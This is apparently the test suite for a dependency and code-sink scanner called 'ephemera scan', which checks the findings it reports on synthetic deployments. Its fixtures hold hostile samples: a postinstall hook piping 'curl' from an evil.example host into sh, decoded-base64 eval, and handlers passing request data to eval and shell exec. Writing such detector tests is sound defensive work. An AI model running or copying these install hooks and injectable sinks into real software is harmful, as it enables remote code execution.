import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { after, describe, it } from 'node:test';
import { fileURLToPath } from 'node:url';
import fc from 'fast-check';
import { CliError } from '../src/errors.js';
import { analyseSource } from '../src/scan/analyse-file.js';
import { runScanCommand } from '../src/scan/command.js';
import { formatSarif, formatTable } from '../src/scan/format.js';
import { RULES } from '../src/scan/rules.js';
import { type Finding, type ScanReport, scanDeployment } from '../src/scan/scan.js';
import { buildRealDeployment, dependencyClosure, REAL_DEPENDENCIES } from './deployment-fixture.js';

const BIN = fileURLToPath(new URL('../src/bin.ts', import.meta.url));
const POISONED = fileURLToPath(new URL('../../guard/test/fixtures/poisoned-dep/', import.meta.url));

/** The line of the poisoned fixture's evil-telemetry/index.js that starts with `text` (1-based). */
function evilLine(text: string): number {
  const lines = readFileSync(join(POISONED, 'node_modules/evil-telemetry/index.js'), 'utf8').split('\n');
  const index = lines.findIndex((l) => l.startsWith(text));
  assert.ok(index >= 0, `the fixture has a line starting with ${text}`);
  return index + 1;
}

const temps: string[] = [];
after(() => {
  for (const dir of temps) rmSync(dir, { recursive: true, force: true });
});

/** A deployment directory written from a map of relative path → contents. */
function deployment(files: Record<string, string>): string {
  const dir = mkdtempSync(join(tmpdir(), 'ephemera-scan-test-'));
  temps.push(dir);
  for (const [rel, text] of Object.entries(files)) {
    mkdirSync(dirname(join(dir, rel)), { recursive: true });
    writeFileSync(join(dir, rel), text);
  }
  return dir;
}

function run(args: string[]): Promise<{ code: number | null; stdout: string; stderr: string }> {
  return new Promise((resolve) => {
    const child = spawn(process.execPath, ['--import', 'tsx', BIN, ...args], { stdio: 'pipe' });
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (d) => (stdout += d));
    child.stderr.on('data', (d) => (stderr += d));
    child.on('close', (code) => resolve({ code, stdout, stderr }));
  });
}

/** `rule severity file:line` of each finding, for exact comparisons. */
function brief(findings: readonly Finding[]): string[] {
  return findings.map((f) => `${f.rule} ${f.severity} ${f.file}:${f.line ?? '-'}`).sort();
}

describe('ephemera scan: the function’s own code, sink by sink', () => {
  const SINKS = `const vm = require('node:vm');
const { exec, execFile, spawn } = require('child_process');
const serialize = require('node-serialize');
const _ = require('lodash');
const merge = require('lodash.merge');
exports.handler = async (evt) => {
  const data = JSON.parse(evt.body);
  const parsed = eval('(' + evt.body + ')');
  const fn = new Function('a', evt.code);
  vm.runInNewContext(data.script, {});
  exec(\`convert \${data.file} out.png\`);
  execFile('/usr/bin/convert', [data.file, 'out.png']);
  spawn(data.tool, []);
  spawn('/bin/sh', ['-c', data.cmd], { shell: true });
  const plugin = require('./plugins/' + data.plugin);
  const obj = serialize.unserialize(evt.body);
  _.merge({}, data);
  merge({}, { safe: true });
  setTimeout('tick()', 10);
  const constant = eval('1 + 1');
  const config = require('./config.json');
  return { parsed, fn, plugin, obj, config, constant };
};
`;

  it('reports each sink with file:line and a severity, and nothing on the benign lines', () => {
    const dir = deployment({ 'index.js': SINKS, 'config.json': '{}' });
    const report = scanDeployment(dir);
    assert.deepEqual(brief(report.findings), [
      'child-process medium index.js:13',
      'child-process-shell high index.js:11',
      'child-process-shell high index.js:14',
      'dynamic-require high index.js:15',
      'eval high index.js:8',
      'eval low index.js:20',
      'function-constructor high index.js:9',
      'prototype-pollution-sink high index.js:17',
      'timer-string medium index.js:19',
      'unsafe-deserializer high index.js:16',
      'unsafe-deserializer high index.js:3',
      'vm high index.js:10',
    ]);
    const byLine = new Map(report.findings.map((f) => [f.line, f]));
    assert.match(byLine.get(8)?.message ?? '', /eval of request data/);
    assert.match(byLine.get(17)?.message ?? '', /lodash\.merge\(\) with request data/);
    assert.ok(report.own.capabilities.process && report.own.capabilities.codegen);
    assert.deepEqual(
      report.own.executables.map((e) => e.name),
      ['convert', '/usr/bin/convert', '/bin/sh'],
      'literal executables (the head of a shell template too) feed policy suggest',
    );
  });

  it('parses ES modules and resolves imported names', () => {
    const dir = deployment({
      'package.json': '{"type":"module"}',
      'index.js': `import { execSync as run } from 'node:child_process';
import * as vm from 'vm';
export const handler = async (event) => {
  run('git log ' + event.ref);
  return new vm.Script(event.code);
};
`,
    });
    assert.deepEqual(brief(scanDeployment(dir).findings), [
      'child-process-shell high index.js:4',
      'vm high index.js:5',
    ]);
  });

  it('does not confuse ordinary methods that share a sink’s name with the sink', () => {
    const dir = deployment({
      'index.js': `const re = /a(b)/;
const db = { exec: (q) => q };
function handler(event) {
  re.exec(event.body);
  db.exec('select 1');
  const merge = (a, b) => ({ ...a, ...b });
  merge({}, event);
  return JSON.parse(event.body);
}
module.exports = { handler };
`,
    });
    assert.deepEqual(scanDeployment(dir).findings, []);
  });
});

describe('ephemera scan: dependencies, package by package', () => {
  it('flags the poisoned dependency fixture: load-time patches of https.request and JSON.stringify, its beacon and its timer', () => {
    const report = scanDeployment(POISONED);
    const at = (text: string) => `node_modules/evil-telemetry/index.js:${evilLine(text)}`;
    assert.deepEqual(brief(report.findings), [
      `load-time-network high ${at('const beacon = http.request(')}`,
      `load-time-patch high ${at('https.request = function')}`,
      `load-time-patch high ${at('JSON.stringify = function')}`,
      `load-time-timer medium ${at('const timer = setInterval(')}`,
    ]);
    assert.deepEqual(report.findings.map((f) => f.message).slice(0, 2), [
      'replaces https.request when required',
      'replaces JSON.stringify when required',
    ]);
    assert.ok(report.findings.every((f) => f.package === 'evil-telemetry@1.4.2'));
    const evil = report.packages.find((p) => p.name === 'evil-telemetry');
    assert.equal(evil?.highest, 'high');
    assert.deepEqual(evil?.hosts, ['127.0.0.1'], 'the collector address is found in lib/ship.js');
    assert.equal(evil?.capabilities.network, true);
    assert.deepEqual(report.own.hosts, [], 'the handler itself is clean');
  });

  it('tells load-time patches from patches inside functions, guarded polyfills and config knobs', () => {
    const dir = deployment({
      'index.js': "require('patcher');",
      'node_modules/patcher/package.json': '{"name":"patcher","version":"1.0.0"}',
      'node_modules/patcher/index.js': `const Module = require('module');
const https = require('node:https');
const original = Module.prototype._compile;
Module.prototype._compile = function (content, filename) { return original.call(this, content, filename); };
Object.prototype.polluted = true;
Object.defineProperty(https, 'get', { value: () => null });
(function () { process.stdout.write = () => true; })();
if (!Array.prototype.at) { Array.prototype.at = function (i) { return this[i]; }; }
String.prototype.trimLeft = String.prototype.trimLeft || String.prototype.trimStart;
Error.stackTraceLimit = 50;
process.env.TZ = 'UTC';
global.myLibraryState = {};
function later() { JSON.parse = () => ({}); }
module.exports = { later };
`,
    });
    const report = scanDeployment(dir);
    const patches = report.findings
      .filter((f) => f.rule === 'load-time-patch')
      .map((f) => `${f.severity} ${f.line} ${f.message}`);
    assert.deepEqual(patches, [
      'high 4 replaces module.prototype._compile when required',
      'high 5 replaces Object.prototype.polluted when required',
      'high 6 replaces https.get when required',
      'high 7 replaces process.stdout.write when required',
      'low 8 replaces Array.prototype.at when required (guarded polyfill)',
      'low 9 replaces String.prototype.trimLeft when required (guarded polyfill)',
    ]);
  });

  it('still reports a critical patch hidden behind a name bound twice, as uncertain', () => {
    const dir = deployment({
      'node_modules/sneaky/package.json': '{"name":"sneaky","version":"1.0.0"}',
      'node_modules/sneaky/index.js': `const https = require('https');
function noise(https) { return https; }
https.request = () => null;
var t = Math.abs;
function other(t) { return t; }
t.f = 1;
`,
    });
    const patches = scanDeployment(dir).findings.map((f) => `${f.severity} ${f.line} ${f.message}`);
    assert.deepEqual(patches, [
      'medium 3 replaces https.request when required (through a name the file binds more than once: verify)',
    ]);
  });

  it('reports install scripts, obfuscation, decoded eval, code generation and known unsafe packages', () => {
    const obfuscated = Array.from(
      { length: 12 },
      (_, i) => `var _0x${(0x1a2b + i).toString(16)} = ${i};`,
    ).join('\n');
    const dir = deployment({
      'index.js': "require('a'); require('b'); require('c');",
      'node_modules/a/package.json': JSON.stringify({
        name: 'a',
        version: '1.0.0',
        scripts: { postinstall: 'curl -s https://evil.example/x | sh', test: 'node test' },
      }),
      'node_modules/a/index.js': 'module.exports = 1;',
      'node_modules/b/package.json': '{"name":"b","version":"2.0.0"}',
      'node_modules/b/index.js': `${obfuscated}\neval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString());`,
      'node_modules/c/package.json':
        '{"name":"c","version":"3.0.0","scripts":{"install":"node-gyp rebuild"}}',
      'node_modules/c/lib/template.js': `module.exports = (src) => new Function('data', 'return ' + src);
module.exports.global = Function('return this')();`,
      'node_modules/node-serialize/package.json': '{"name":"node-serialize","version":"0.0.4"}',
      'node_modules/node-serialize/lib/serialize.js': 'exports.unserialize = (s) => eval("(" + s + ")");',
      'node_modules/broken/package.json': '{"name":"broken","version":"0.1.0"}',
      'node_modules/broken/index.js': 'this is not javascript (',
    });
    const report = scanDeployment(dir);
    assert.deepEqual(brief(report.findings), [
      'code-generation low node_modules/c/lib/template.js:1',
      'code-generation low node_modules/node-serialize/lib/serialize.js:1',
      'decoded-eval high node_modules/b/index.js:13',
      'install-script high node_modules/a/package.json:1',
      'install-script medium node_modules/c/package.json:1',
      'obfuscation high node_modules/b/index.js:-',
      'parse-error info node_modules/broken/package.json:-',
      'unsafe-package high node_modules/node-serialize/package.json:-',
    ]);
    const codegen = report.findings.find((f) => f.package === 'c@3.0.0' && f.rule === 'code-generation');
    assert.match(
      codegen?.message ?? '',
      /^1 code generation site \(Function ×1\)/,
      'the constant Function is not counted',
    );
    assert.equal(report.files.notAnalysed, 1);
  });
});

describe('ephemera scan: a real deployment (AWS SDK v3 client + express + pg)', () => {
  let real: { dir: string; packages: number } | undefined;
  let report: ScanReport | undefined;
  after(() => {
    if (real) rmSync(real.dir, { recursive: true, force: true });
  });

  it('scans the whole dependency closure and reports a short, reviewable list', () => {
    real = buildRealDeployment();
    report = scanDeployment(real.dir);
    assert.equal(
      report.packages.length,
      real.packages,
      'every package of the closure is found through the links',
    );
    assert.ok(report.files.total > 1000, `only ${report.files.total} files`);
    assert.equal(report.files.notAnalysed, 0, 'every file parses');
    const alerts = report.findings.filter((f) => f.severity !== 'info');
    assert.deepEqual(
      alerts.filter((f) => f.severity === 'high' || f.severity === 'medium'),
      [],
      'nothing in this tree patches built-ins, hides code or runs install scripts',
    );
    // What is left is code generation in a few well-known packages (depd's wrapper, function-bind,
    // qs's bundled polyfills): each reviewed in docs/scan.md.
    assert.ok(alerts.length <= 10, `noise: ${alerts.length} findings`);
    assert.ok(alerts.every((f) => f.rule === 'code-generation' && f.package !== null));
    assert.ok(
      alerts.some((f) => f.package?.startsWith('depd@')),
      'depd compiles its deprecation wrapper',
    );

    const caps = (name: string) => report?.packages.find((p) => p.name === name)?.capabilities;
    assert.equal(caps('pg')?.network, true);
    assert.equal(caps('@smithy/node-http-handler')?.network, true);
    assert.equal(caps('express')?.fs, true);
    assert.equal(caps('@aws-sdk/credential-provider-process')?.process, true);
    assert.deepEqual([...new Set(report.own.hosts.map((h) => h.host))], ['hooks.slack.example-corp.com']);
    assert.equal(report.own.capabilities.network, true, 'global fetch');
  });

  it('prints a table with the findings and the packages’ capabilities', () => {
    assert.ok(report);
    const text = formatTable(report);
    assert.match(text, /^ephemera scan: /);
    assert.match(text, /findings: 0 high, 0 medium, \d+ low/);
    assert.match(text, /^package\s+network\s+fs\s+process\s+codegen\s+hosts$/m);
    assert.match(text, /^pg@\S+\s+x\s+x?\s*/m);
  });

  it('resolves the closure the way Node does (nested versions included)', () => {
    const closure = dependencyClosure(REAL_DEPENDENCIES);
    assert.ok(closure.some((dir) => dir.endsWith('/node_modules/express')));
    assert.ok(closure.some((dir) => dir.endsWith('/node_modules/pg-protocol')));
  });
});

describe('ephemera scan: SARIF 2.1.0', () => {
  it('produces a log with every field SARIF 2.1.0 requires, and results GitHub code scanning can place', () => {
    const sarif = JSON.parse(
      formatSarif(scanDeployment(POISONED), fileURLToPath(new URL('../../../', import.meta.url))),
    );
    checkSarif(sarif);
    const results = sarif.runs[0].results as SarifResult[];
    assert.equal(results.length, 4);
    const first = results.find((r) => r.ruleId === 'load-time-patch');
    assert.equal(first?.ruleId, 'load-time-patch');
    assert.equal(first?.level, 'error');
    assert.equal(
      first?.locations[0]?.physicalLocation.artifactLocation.uri,
      'packages/guard/test/fixtures/poisoned-dep/node_modules/evil-telemetry/index.js',
      'relative to the repository root the command ran in',
    );
    assert.deepEqual(first?.locations[0]?.physicalLocation.region, {
      startLine: evilLine('https.request = function'),
      startColumn: 1,
    });
    assert.equal(results.find((r) => r.ruleId === 'load-time-timer')?.level, 'warning');
  });

  it('the checker itself rejects logs that miss required fields', () => {
    const good = JSON.parse(formatSarif(scanDeployment(POISONED)));
    for (const [label, mutate] of [
      ['no version', (l: SarifLog) => delete (l as Partial<SarifLog>).version],
      [
        'no driver name',
        (l: SarifLog) => delete ((l.runs[0] as SarifLog['runs'][0]).tool.driver as Partial<SarifDriver>).name,
      ],
      [
        'result without message',
        (l: SarifLog) =>
          delete ((l.runs[0] as SarifLog['runs'][0]).results[0] as Partial<SarifResult>).message,
      ],
      ['bad level', (l: SarifLog) => Object.assign(l.runs[0]?.results[0] ?? {}, { level: 'fatal' })],
      ['ruleIndex mismatch', (l: SarifLog) => Object.assign(l.runs[0]?.results[0] ?? {}, { ruleIndex: 0 })],
    ] as const) {
      const log = structuredClone(good) as SarifLog;
      mutate(log);
      assert.throws(() => checkSarif(log), assert.AssertionError, label);
    }
  });
});

describe('ephemera scan: command line', () => {
  it('exits 1 with --fail-on high on the poisoned fixture, 0 without, and prints JSON', async () => {
    const failing = await run(['scan', POISONED, '--fail-on', 'high', '--format', 'json']);
    assert.equal(failing.code, 1, failing.stderr);
    const parsed = JSON.parse(failing.stdout) as ScanReport;
    assert.equal(parsed.findings.length, 4);
    const passing = await run(['scan', POISONED, '--fail-on', 'none']);
    assert.equal(passing.code, 0);
    assert.match(passing.stdout, /findings: 3 high, 1 medium, 0 low/);
  });

  it('names a bad directory, a bad option value and an unknown flag with stable codes (exit 2)', async () => {
    const missing = await run(['scan', '/no/such/dir']);
    assert.equal(missing.code, 2);
    assert.match(missing.stderr, /EPHEMERA_ERR_SCAN_DIR: "\/no\/such\/dir" is not a directory/);
    assert.doesNotMatch(missing.stderr, /\n\s+at /, 'no stack trace');

    const cases: [string[], RegExp][] = [
      [['--format', 'xml'], /--format is "xml"; accepted: table, json, sarif/],
      [['--fail-on', 'critical'], /--fail-on is "critical"; accepted: none, info, low, medium, high/],
      [['--frobnicate'], /scan: Unknown option '--frobnicate'/],
      [['a', 'b'], /scan takes one directory, got 2/],
      [[fileURLToPath(import.meta.url)], /is not a directory/],
    ];
    for (const [args, message] of cases) {
      assert.throws(
        () => runScanCommand(args, () => {}),
        (error: unknown) =>
          error instanceof CliError &&
          error.exitCode === 2 &&
          message.test(error.message) &&
          (error.code === 'EPHEMERA_ERR_CLI_USAGE' || error.code === 'EPHEMERA_ERR_SCAN_DIR'),
        args.join(' '),
      );
    }
  });
});

describe('ephemera scan: analysis of generated programs (fast-check)', () => {
  const EVAL = 'eval(event.body);';
  const FRAGMENTS = [
    EVAL,
    '{ const cp = require("child_process"); cp.exec("ls " + event.dir); }',
    'JSON.stringify = function () {};',
    'if (!Array.prototype.at) Array.prototype.at = function () {};',
    '(function () { Object.prototype.x = 1; })();',
    'function f(t) { t.y = 2; return t; }',
    'var t = Math.abs;',
    'label: for (;;) { break label; }',
    'class A { static #p = 1; static { this.q = 2; } get [Symbol.iterator]() { return null; } }',
    'async function* g() { for await (const x of []) yield x; }',
    '{ const o = { ...event, a: event?.b?.c ?? 1, [`k${1}`]: 2 }; }',
    'new Function("a", event.code);',
    'setInterval(() => {}, 1000);',
    'try { throw 1; } catch { } finally { }',
    'x = `https://api.example.com/${event.p}`;',
    'import("./m" + event.q);',
    'with (Math) { abs(1); }',
    'a = (b) => (c) => d;',
    '<!-- an HTML comment, Annex B',
    '"\\x41\\x42";',
  ];

  it('never fails on valid programs made of sink, patch and syntax fragments, and places findings on real lines', () => {
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...FRAGMENTS), { maxLength: 14 }), (parts) => {
        const source = parts.join('\n');
        const facts = analyseSource(source, 'commonjs', true);
        const lines = source.split('\n').length;
        for (const hit of [...facts.hits, ...facts.patches]) assert.ok(hit.line >= 1 && hit.line <= lines);
        const evals = facts.hits.filter((h) => h.rule === 'eval');
        assert.deepEqual(
          evals.map((h) => h.line),
          parts.flatMap((p, i) => (p === EVAL ? [i + 1] : [])),
        );
        const stringify = facts.patches.filter((p) => p.target === 'JSON.stringify');
        assert.equal(stringify.length, parts.filter((p) => p.startsWith('JSON.stringify =')).length);
      }),
      { numRuns: 300 },
    );
  });
});

// ---------------------------------------------------------------------------------------------------
// A structural check of SARIF 2.1.0 (OASIS standard, §3): the required properties of the objects the
// scan emits, their types and enumerations, and the cross-references between results and rules.
// ---------------------------------------------------------------------------------------------------

interface SarifDriver {
  name: string;
  rules: { id: string }[];
}
interface SarifResult {
  ruleId: string;
  ruleIndex: number;
  level: string;
  message: { text?: string; id?: string };
  locations: {
    physicalLocation: {
      artifactLocation: { uri: string; uriBaseId?: string };
      region?: Record<string, number>;
    };
  }[];
}
interface SarifLog {
  version: string;
  runs: {
    tool: { driver: SarifDriver };
    results: SarifResult[];
    originalUriBaseIds?: Record<string, { uri: string }>;
  }[];
}

function checkSarif(log: unknown): void {
  const object = (value: unknown, where: string): Record<string, unknown> => {
    assert.ok(
      typeof value === 'object' && value !== null && !Array.isArray(value),
      `${where} is not an object`,
    );
    return value as Record<string, unknown>;
  };
  const root = object(log, 'sarifLog');
  assert.equal(root.version, '2.1.0', 'sarifLog.version is required and must be "2.1.0"');
  assert.ok(Array.isArray(root.runs), 'sarifLog.runs is required (array)');
  for (const [r, runValue] of (root.runs as unknown[]).entries()) {
    const run = object(runValue, `runs[${r}]`);
    const tool = object(run.tool, `runs[${r}].tool (required)`);
    const driver = object(tool.driver, `runs[${r}].tool.driver (required)`);
    assert.equal(typeof driver.name, 'string', 'toolComponent.name is required');
    const rules = (driver.rules ?? []) as unknown[];
    assert.ok(Array.isArray(rules));
    const ids = rules.map((rule, i) => {
      const descriptor = object(rule, `rules[${i}]`);
      assert.equal(typeof descriptor.id, 'string', 'reportingDescriptor.id is required');
      if (descriptor.defaultConfiguration !== undefined) {
        const level = object(descriptor.defaultConfiguration, 'defaultConfiguration').level;
        assert.ok(['none', 'note', 'warning', 'error'].includes(String(level)));
      }
      return descriptor.id as string;
    });
    assert.equal(new Set(ids).size, ids.length, 'rule ids are unique');
    for (const [id, base] of Object.entries((run.originalUriBaseIds ?? {}) as Record<string, unknown>)) {
      const uri = object(base, `originalUriBaseIds.${id}`).uri;
      assert.ok(typeof uri === 'string' && uri.endsWith('/') && new URL(uri).protocol === 'file:');
    }
    if (run.columnKind !== undefined)
      assert.ok(['utf16CodeUnits', 'unicodeCodePoints'].includes(String(run.columnKind)));
    assert.ok(Array.isArray(run.results), 'runs[].results present (the scan always runs)');
    for (const [i, resultValue] of (run.results as unknown[]).entries()) {
      const result = object(resultValue, `results[${i}]`);
      const message = object(result.message, `results[${i}].message (required)`);
      assert.ok(
        typeof message.text === 'string' || typeof message.id === 'string',
        'message needs text or id',
      );
      if (result.level !== undefined)
        assert.ok(
          ['none', 'note', 'warning', 'error'].includes(String(result.level)),
          `level ${String(result.level)}`,
        );
      if (result.ruleIndex !== undefined) {
        assert.ok(Number.isInteger(result.ruleIndex) && (result.ruleIndex as number) >= -1);
        assert.equal(ids[result.ruleIndex as number], result.ruleId, 'ruleIndex points at ruleId');
      }
      if (result.ruleId !== undefined) assert.ok(ids.includes(String(result.ruleId)), 'ruleId names a rule');
      for (const locationValue of (result.locations ?? []) as unknown[]) {
        const physical = object(object(locationValue, 'location').physicalLocation, 'physicalLocation');
        const artifact = object(physical.artifactLocation, 'artifactLocation');
        assert.equal(typeof artifact.uri, 'string');
        assert.doesNotThrow(() => new URL(artifact.uri as string, 'file:///base/'), 'uri is a URI reference');
        if (artifact.uriBaseId !== undefined)
          assert.ok(Object.hasOwn((run.originalUriBaseIds ?? {}) as object, String(artifact.uriBaseId)));
        if (physical.region !== undefined) {
          const region = object(physical.region, 'region');
          assert.ok(Number.isInteger(region.startLine) && (region.startLine as number) >= 1, 'startLine ≥ 1');
          if (region.startColumn !== undefined)
            assert.ok(Number.isInteger(region.startColumn) && (region.startColumn as number) >= 1);
        }
      }
    }
  }
  assert.ok(Object.keys(RULES).length > 0);
}
